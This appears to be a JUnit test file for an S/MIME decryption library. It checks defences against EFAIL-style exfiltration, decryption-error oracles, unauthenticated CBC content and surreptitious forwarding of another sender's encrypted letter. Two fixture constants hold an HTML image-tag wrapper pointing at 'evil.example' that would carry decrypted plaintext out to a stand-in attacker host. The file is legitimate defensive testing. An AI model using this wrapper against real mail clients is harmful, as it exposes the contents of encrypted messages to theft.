package org.vaguemestre.crypto;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.vaguemestre.crypto.Mails.CA;
import static org.vaguemestre.crypto.Mails.CBC;
import static org.vaguemestre.crypto.Mails.CLAIRE;
import static org.vaguemestre.crypto.Mails.ENTITY;
import static org.vaguemestre.crypto.Mails.FROM;
import static org.vaguemestre.crypto.Mails.HELENE;
import static org.vaguemestre.crypto.Mails.assertEncryption;
import static org.vaguemestre.crypto.Mails.assertValid;
import static org.vaguemestre.crypto.Mails.encrypted;
import static org.vaguemestre.crypto.Mails.multipart;
import static org.vaguemestre.crypto.Mails.read;
import static org.vaguemestre.crypto.Mails.signed;

import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;

import org.junit.jupiter.api.Test;

/** What was encrypted for the reader stays with the reader: what is tried to carry it off, or to learn of it by trying. */
class DecryptionVerdictTest {

	private static final String OPEN = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n";
	private static final String CLOSE = "Content-Type: text/html\r\n\r\n\">\r\n";

	private static void assertClosed(String message) throws CryptoException {
		SecureMessage read = read(FROM + message);
		assertEncryption("REFUSED PARTLY_ENCRYPTED PART", read);
		assertFalse(read.content().walk().anyMatch(e -> e.text().contains("Bonjour")), message);
	}

	@Test
	void encryptedPartsBesideOthersStayClosed() throws CryptoException {
		for (EncryptOptions options : List.of(EncryptOptions.DEFAULT, CBC)) {
			String closed = encrypted(ENTITY, options);
			assertClosed(multipart("mixed", OPEN, closed, CLOSE));
			assertClosed(multipart("related", OPEN, closed, CLOSE));
			assertClosed(multipart("alternative", OPEN, closed));
			assertClosed(multipart("mixed", closed));
			assertClosed(multipart("report", OPEN, closed));
			assertClosed(multipart("mixed", OPEN, multipart("alternative", closed).replace("outer", "inner")));
			assertClosed(multipart("mixed", OPEN, "Content-ID: <part>\r\n" + closed));
			assertClosed(multipart("mixed", "Content-Type: text/plain\r\n\r\n" + "\r\n".repeat(200), closed));
			assertClosed(multipart("mixed", OPEN, closed.replaceFirst("application/pkcs7-mime;[^\\r]*", "application/octet-stream; name=a.p7m;")));
			assertClosed(multipart("mixed", OPEN, closed, encrypted(ENTITY)));
		}
	}

	@Test
	void insideASignatureOrAnEncryptionTooTheyStayClosed() throws CryptoException {
		String mixed = multipart("mixed", OPEN, encrypted(ENTITY), CLOSE);
		assertClosed(signed(mixed, CLAIRE));
		SecureMessage around = read(FROM + encrypted(mixed));
		assertEncryption("DECRYPTED OK WHOLE", around);
		assertTrue(around.warnings().contains(ReasonCode.PARTLY_ENCRYPTED));
		assertFalse(around.content().walk().anyMatch(e -> e.text().contains("Bonjour")));
	}

	@Test
	void anEncryptedMessageInsideAnotherStaysClosed() throws CryptoException {
		String inner = "Content-Type: message/rfc822\r\n\r\n" + FROM + encrypted(ENTITY);
		for (String message : List.of(inner, multipart("mixed", OPEN, inner), multipart("report", OPEN, inner), multipart("digest", inner))) {
			SecureMessage read = read(FROM + message);
			assertEquals(EncryptionVerdict.none(), read.encryption());
			assertFalse(read.content().walk().anyMatch(e -> e.text().contains("Bonjour")), message);
		}
	}

	@Test
	void keysAreAskedForOnlyWhereAllIsEncrypted() throws CryptoException {
		AtomicInteger asked = new AtomicInteger();
		ReadContext counting = new ReadContext(() -> {
			asked.incrementAndGet();
			return List.of(HELENE);
		}, List.of(CA.certificate()), List.of(), List.of(), TestPki.NOW);
		read(FROM + multipart("mixed", OPEN, encrypted(ENTITY), CLOSE), counting);
		read(FROM + signed(ENTITY, CLAIRE), counting);
		read(FROM + ENTITY, counting);
		assertEquals(0, asked.get());
		read(FROM + encrypted(ENTITY), counting);
		assertEquals(1, asked.get());
	}

	@Test
	void everyFailureOfAFittingKeyIsOne() throws CryptoException {
		UnlockedKey rsa = CA.mail("Léa", "lea@example.org");
		ReadContext context = new ReadContext(List.of(rsa), List.of(CA.certificate()), List.of(), List.of(), TestPki.NOW);
		for (EncryptOptions options : List.of(EncryptOptions.DEFAULT, CBC)) {
			String text = new String(new SmimeWriter(java.time.Clock.systemUTC(), new java.security.SecureRandom())
					.encrypt(ENTITY.getBytes(UTF_8), List.of(rsa.certificate()), options), UTF_8);
			int body = text.indexOf("\r\n\r\n") + 4;
			byte[] cms = Base64.getMimeDecoder().decode(text.substring(body));
			Set<ReasonCode> told = new HashSet<>();
			// the wrapped key, the content and the tag: from behind the names of the recipient to the end
			for (int at = cms.length / 3; at < cms.length; at += 3) {
				byte[] changed = cms.clone();
				changed[at] ^= 0x21;
				EncryptionVerdict verdict = read(FROM + text.substring(0, body) + Base64.getMimeEncoder().encodeToString(changed), context).encryption();
				if (verdict.status() == EncryptionVerdict.Status.FAILED) {
					told.add(verdict.reason());
				}
			}
			told.removeAll(Set.of(ReasonCode.CMS_MALFORMED, ReasonCode.UNSUPPORTED_ALGORITHM, ReasonCode.NO_KEY));
			assertEquals(Set.of(ReasonCode.DECRYPTION_FAILED), told, "besides what everybody can see of the structure");
		}
	}

	@Test
	void withoutAnAuthenticatedEncryptionOnlyASignatureTells() throws CryptoException {
		assertEquals(List.of(ReasonCode.NOT_AUTHENTICATED), read(FROM + encrypted(ENTITY, CBC)).warnings());
		assertEquals(List.of(), read(FROM + encrypted(ENTITY)).warnings());
		SecureMessage signed = read(FROM + encrypted(signed(ENTITY, CLAIRE), CBC));
		assertValid(signed);
		assertEquals(List.of(), signed.warnings());
		SecureMessage changed = read(FROM + encrypted(signed(ENTITY, CLAIRE).replace("Bonjour", "Bonsoir"), CBC));
		assertEquals(List.of(ReasonCode.NOT_AUTHENTICATED), changed.warnings());
		SecureMessage outside = read(FROM + signed(encrypted(ENTITY, CBC), CLAIRE));
		assertEquals(List.of(ReasonCode.NOT_AUTHENTICATED), outside.warnings());
	}

	@Test
	void anEncryptedMessageSentOnByAnotherIsNotTheirs() throws CryptoException {
		// Paul sends Claire's letter under his own name, in hope of an answer that quotes it
		String claire = encrypted("Content-Type: text/plain; hp=\"cipher\"\r\n" + FROM + "\r\nBonjour\r\n");
		SecureMessage read = read(FROM.replace("Claire <claire", "Paul <paul") + claire);
		assertTrue(read.warnings().contains(ReasonCode.FROM_DIFFERS));
		SecureMessage sealed = read(FROM.replace("Claire <claire", "Paul <paul") + encrypted(signed(ENTITY, CLAIRE)));
		Mails.assertInvalid(ReasonCode.SIGNER_NOT_SENDER, sealed);
	}
}
